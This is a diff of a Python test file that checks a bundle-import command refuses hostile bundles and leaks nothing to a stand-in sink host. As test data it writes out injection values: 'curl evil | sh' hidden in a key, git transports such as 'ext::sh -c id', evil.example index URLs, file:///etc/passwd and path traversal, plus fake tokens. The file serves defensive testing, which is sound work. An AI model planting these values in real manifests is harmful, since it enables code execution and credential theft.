@@ -1,89 +1,76 @@
-"""A stranger's bundle is refused in one sentence, or does no more than was agreed to."""
+"""A stranger's bundle through the real command: refused in one line, or no more than agreed to.
+
+The bad bundles are those of ``tests/hostile``; here is a sample of them, and what an import meets
+after it was agreed to.
+"""
 
 from __future__ import annotations
 
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
-from tests.hub.registry import Pack, PackVersion, node_registry
-from tests.journeys.hostile import Change, append, changed, swap, tell, write
+from tests.hostile.bundles import (
+    LOCK,
+    PROJECT,
+    Change,
+    both,
+    changed,
+    files_of,
+    listed,
+    packed,
+    swap,
+    tell,
+)
+from tests.hostile.corpus import REFUSED
+from tests.hostile.good import GOOD
+from tests.hostile.honest import UNHEEDED
+from tests.hub.serving import Exchange, Served, serving
 from tests.journeys.machines import Machine, machine
 from tests.journeys.town import Town, git, pack_files, write_files
 
-PROJECT, LOCK = "pyproject.toml", "uv.lock"
-REPOSITORY = 'repository = "https://github.com/acme/acme-git"'
-SOURCE = "https://huggingface.co/town/models/resolve/main/upscale_models/tiny-2x.safetensors"
-MODEL_PATH = 'relative_path = "upscale_models/tiny-2x.safetensors"'
-EVIL = '\n[[package]]\nname = "evil"\nversion = "1"\nsource = { registry = "x" }\n'
-DEEP = "[" * 100_000
-
-
-def repository(address: str) -> Change:
-    return swap(PROJECT, REPOSITORY, f'repository = "{address}"')
-
-
-def node_name(name: str) -> Change:
-    return swap(PROJECT, "[tool.comfydock.nodes.acme-git]", f'[tool.comfydock.nodes."{name}"]')
-
-
-def source(address: str) -> Change:
-    return swap(PROJECT, SOURCE, address)
-
-
-def workflow_key(key: str) -> Change:
-    table = f'[tool.comfydock.workflows."{key}"]\npath = 5\n\n[dependency-groups]'
-    return swap(PROJECT, "[dependency-groups]", table)
-
-
-REFUSED: dict[str, tuple[Change, str]] = {
-    "a requirement with an address": (
-        swap(PROJECT, '"packaging>=24"', '"packaging @ https://evil.example/p.whl"'),
-        "project.dependencies",
-    ),
-    "a requirement with a line feed": (
-        swap(PROJECT, '"packaging>=24"', '"packaging>=24\\n--index-url https://evil.example"'),
-        "project.dependencies",
-    ),
-    "deep TOML": (append(PROJECT, f"x = {DEEP}"), "nested too deeply"),
-    "a long number": (append(PROJECT, f"x = {'9' * 5000}"), "too long"),
-    "a key that writes a hint": (workflow_key("x\\nhint: curl evil | sh"), r"x\nhint: curl"),
-    "a key of 100 KB": (workflow_key("x" * 100_000), "xxx…` in `pyproject.toml`"),
-    "a lock's key with a line feed": (
-        append(LOCK, EVIL.replace("registry", '"a\\nb"').replace('"x"', "1")),
-        r"source.a\nb",
-    ),
-    "git: another transport": (repository("ext::sh -c id"), "acme-git.repository"),
-    "git: a folder": (repository("/etc"), "acme-git.repository"),
-    "git: the form of scp": (repository("git@github.com:a/b"), "acme-git.repository"),
-    "git: an option": (repository("-upload-pack=id"), "acme-git.repository"),
-    "git: a file address": (repository("file:///etc"), "acme-git.repository"),
-    "git: a password": (repository("https://u:p@github.com/a/b"), "acme-git.repository"),
-    "a node out of its folder": (node_name("../x"), "no name for a node"),
-    "a node with a device's name": (node_name("CON"), "reserves for a device"),
-    "a node's twin": (swap(PROJECT, 'name = "acme-git"', 'name = "ACME-TEXT"'), "same folder"),
-    "a model out of its folder": (swap(PROJECT, MODEL_PATH, 'relative_path = "../x.pt"'), ".."),
-    "a model that is a program": (swap(PROJECT, MODEL_PATH, 'relative_path = "x.exe"'), ".exe"),
-    "a source with a password": (source("https://u:p@evil.example/x"), "password"),
-    "a source on this disk": (source("file:///etc/passwd"), "no http or https"),
-    "a lock with an option": (
-        append(LOCK, EVIL.replace('"1"', '"1\\n-e ."')),
-        "package[6].version",
-    ),
-    "a lock with code as a marker": (
-        append(LOCK, EVIL + "resolution-markers = [\"__import__('os')\"]\n"),
-        "no environment marker",
-    ),
-    "an interpreter as the version": (write(".python-version", "/tmp/evil"), ".python-version"),
-    "a uv.toml": (write("uv.toml", ""), "uv.toml"),
-    "an environment out of its folder": (tell(environment_name="../x"), "environment_name"),
-    "an environment without a name": (tell(environment_name=""), "environment_name"),
+SAMPLE = (
+    *("name '../x'", "name '/tmp/comfydock-hostile'", "name 'dev_nodes/my-dev/.git/config'"),
+    *("type b'2'", "x: an absolute path", "a second member", "the last byte missing"),
+    *("place uv.toml", "manifest: deep", "an environment named '../x'"),
+    *("lock: an option behind a version", ".python-version '/tmp/evil'"),
+    *("project: a key that writes a hint", "requirement: an address", "git: another transport"),
+    *("node: a twin", "model: out of its folder", "source: a password"),
+)
+SECRETS = {
+    "GITHUB_TOKEN": "ghp_secret",
+    "CIVITAI_API_KEY": "secret",
+    "UV_INDEX_URL": "https://user:secret@evil.example/simple",
+    "PIP_EXTRA_INDEX_URL": "https://user:secret@evil.example/simple",
 }
+PROXIES = ("http_proxy", "https_proxy", "all_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY")
 
 
 @pytest.fixture
-def receiver(town: Town, tmp_path: Path) -> Machine:
-    return machine(tmp_path / "receiver", town)
+def sink() -> Iterator[Served]:
+    """A host that stands for all that nobody may ask."""
+
+    def answer(exchange: Exchange) -> None:
+        exchange.reply(404)
+
+    with serving(answer) as served:
+        yield served
+
+
+@pytest.fixture
+def receiver(town: Town, sink: Served, tmp_path: Path) -> Machine:
+    """A machine with secrets, for which ``evil.example`` is the sink."""
+    one = machine(tmp_path / "receiver", town)
+    mirrors = f"{town.variables['COMFYDOCK_MIRRORS']} https://evil.example/={sink.url}/"
+    return Machine(
+        home=one.home, variables={**one.variables, **SECRETS, "COMFYDOCK_MIRRORS": mirrors}
+    )
+
+
+def through(one: Machine, sink: Served) -> Machine:
+    """The same machine where every way out leads through the sink."""
+    return Machine(home=one.home, variables={**one.variables, **dict.fromkeys(PROXIES, sink.url)})
 
 
 def requests_seen(town: Town) -> int:
@@ -92,26 +79,62 @@ def requests_seen(town: Town) -> int:
 
 def written(bundle: Path, change: Change, folder: Path) -> str:
     target = folder / "hostile.tar.gz"
-    target.write_bytes(changed(bundle.read_bytes(), change))
+    target.write_bytes(packed(listed(changed(change, files_of(bundle.read_bytes())))))
     return str(target)
 
 
-@pytest.mark.parametrize("what", REFUSED)
+@pytest.mark.parametrize("what", SAMPLE)
 def test_it_is_refused_before_anything_happens(
-    what: str, bundle: Path, receiver: Machine, town: Town, tmp_path: Path
+    what: str, bundle: Path, receiver: Machine, town: Town, sink: Served, tmp_path: Path
 ) -> None:
-    change, named = REFUSED[what]
+    wanted = REFUSED[what]
     before = requests_seen(town)
-    hostile = written(bundle, change, tmp_path)
-    ran = receiver.run("import", hostile, "--yes", "--trust-code", "--json")
-    assert ran.exit_code == 1
-    (error,) = ran.envelope["errors"]
-    assert error["code"] != "bug"
-    sentence = error["message"].partition("\n")[0]
-    assert named in sentence
-    assert len(sentence) < 500
+    hostile = tmp_path / "hostile.tar.gz"
+    hostile.write_bytes(wanted.make(files_of(bundle.read_bytes())))
+    one = through(receiver, sink)
+    for words in (("inspect",), ("import", "--yes", "--trust-code"))[not wanted.inspected :]:
+        ran = one.run(*words, str(hostile), "--json")
+        assert ran.exit_code == 1
+        (error,) = ran.envelope["errors"]
+        assert error["code"] in ("bundle", "manifest")
+        sentence = error["message"].partition("\n")[0]
+        assert [word for word in wanted.words if word not in sentence] == []
     assert not receiver.place("studio").exists()
     assert requests_seen(town) == before
+    assert sink.requests == ()
+
+
+def test_looking_asks_nobody(bundle: Path, receiver: Machine, town: Town, sink: Served) -> None:
+    before = requests_seen(town)
+    one = through(receiver, sink)
+    one.ok("inspect", str(bundle))
+    assert one.run("import", str(bundle)).exit_code == 4
+    assert requests_seen(town) == before
+    assert sink.requests == ()
+
+
+def test_what_is_asked_of_uv_is_not_heard(
+    bundle: Path, receiver: Machine, sink: Served, tmp_path: Path
+) -> None:
+    odd = files_of(bundle.read_bytes())
+    good = listed(GOOD)
+    for what, honest in UNHEEDED.items():
+        # TOML has a table once.
+        if what == "a path for uv":
+            continue
+        after = files_of(honest.make(GOOD))
+        for name in (PROJECT, LOCK):
+            added = after[name].removeprefix(good[name])
+            odd[name] += added if after[name].startswith(good[name]) else b""
+    hostile = tmp_path / "odd.tar.gz"
+    swap(PROJECT, "package = false", 'package = true\npython-install-mirror = "../x"')(odd)
+    hostile.write_bytes(packed(listed(odd)))
+    receiver.ok("import", str(hostile), "--yes", "--trust-code")
+    cec = receiver.place("studio") / ".cec"
+    for name in (PROJECT, LOCK):
+        text = (cec / name).read_text(encoding="utf-8")
+        assert [word for word in ("evil", "../", "build-system") if word in text] == []
+    assert sink.requests == ()
 
 
 def test_a_bundle_without_a_good_name_can_have_another(
@@ -124,7 +147,7 @@ def test_a_bundle_without_a_good_name_can_have_another(
 
 
 def git_node(town: Town, name: str) -> Path:
-    folder = town.models_folder.parents[4] / "git" / "evil" / name
+    folder = town.repositories / "evil" / name
     write_files(folder, pack_files("AcmeGit", "colorama"))
     git(folder, "init", "-q", "-b", "master", ".")
     git(folder, "add", "-A")
@@ -133,11 +156,10 @@ def git_node(town: Town, name: str) -> Path:
 
 
 def with_git_node(town: Town, name: str, commit: str) -> Change:
-    def act(files: dict[str, bytes]) -> None:
-        swap(PROJECT, "github.com/acme/acme-git", f"github.com/evil/{name}")(files)
-        swap(PROJECT, town.git_node_commit, commit)(files)
-
-    return act
+    return both(
+        swap(PROJECT, "github.com/acme/acme-git", f"github.com/evil/{name}"),
+        swap(PROJECT, town.git_node_commit, commit),
+    )
 
 
 @pytest.mark.parametrize("kind", ["heads", "tags"])
@@ -159,35 +181,3 @@ def test_a_ref_that_is_named_like_a_commit_is_not_taken_for_it(
     assert ran.exit_code == (0 if kind == "tags" else 3)
     assert node.exists() == (kind == "tags")
     assert not (node / "evil.py").exists()
-
-
-PACKS: dict[str, tuple[dict[str, str], str]] = {
-    "deep TOML": ({"pyproject.toml": f"x = {DEEP}"}, "nested too deeply"),
-    "a long number": ({"pyproject.toml": f"x = {'9' * 5000}"}, "too long"),
-    "a deep marker": ({"requirements.txt": f"x; {'(' * 5000}os_name=='a'"}, "cannot be locked"),
-    "a folder in place of a list": ({".tracking/x": ""}, ".tracking"),
-    "a git folder": ({".git/config": ""}, ".git/config"),
-    "an address": ({"requirements.txt": "x @ file:///etc/passwd"}, "file:///etc/passwd"),
-}
-
-
-@pytest.mark.parametrize("what", PACKS)
-def test_one_bad_pack_does_not_stop_the_import(
-    what: str, bundle: Path, town: Town, tmp_path: Path
-) -> None:
-    files, named = PACKS[what]
-    version = PackVersion(version="1.2.0", files={"__init__.py": "", **files})
-    with node_registry([Pack(node_id="acme-text", versions=(version,))]) as registry:
-        variables = dict(town.variables) | {"COMFYDOCK_REGISTRY": registry.url}
-        receiver = Machine(home=tmp_path / "home", variables=variables)
-        hostile = written(bundle, unpinned, tmp_path)
-        ran = receiver.run("import", hostile, "--yes", "--trust-code", "--json")
-    assert ran.exit_code == 3
-    (failed,) = ran.envelope["data"]["nodes"]["failed"]
-    assert failed["name"] == "acme-text"
-    assert named in failed["reason"]
-
-
-def unpinned(files: dict[str, bytes]) -> None:
-    lines = files[PROJECT].splitlines(keepends=True)
-    files[PROJECT] = b"".join(line for line in lines if not line.startswith(b"sha256 = "))
